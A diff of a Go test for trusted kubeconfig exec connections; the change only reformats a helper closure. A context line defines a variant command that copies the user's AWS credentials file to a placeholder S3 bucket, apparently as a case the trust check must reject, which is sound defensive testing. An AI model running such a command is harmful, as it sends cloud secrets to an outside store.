@@ -34,7 +34,9 @@ func inlineKubeconfig(t *testing.T, user *clientcmdapi.AuthInfo, cluster *client
 func TestTrustedConnections(t *testing.T) {
 	aws := member.ExecConfig{Command: "aws", Args: []string{"eks", "get-token", "--cluster-name", "east"}, Env: map[string]string{"AWS_PROFILE": "prod"}}
 	trust := trustedConnections{exec: []member.ExecConfig{aws}, paths: map[string]bool{"/home/u/.kube/config": true}}
-	withExec := func(x member.ExecConfig) member.Connection { return member.Connection{Host: "https://10.0.0.1", Exec: &x} }
+	withExec := func(x member.ExecConfig) member.Connection {
+		return member.Connection{Host: "https://10.0.0.1", Exec: &x}
+	}
 	otherArgs := aws
 	otherArgs.Args = []string{"s3", "cp", "/home/u/.aws/credentials", "s3://x-secret-arg"}
 	otherEnv := aws
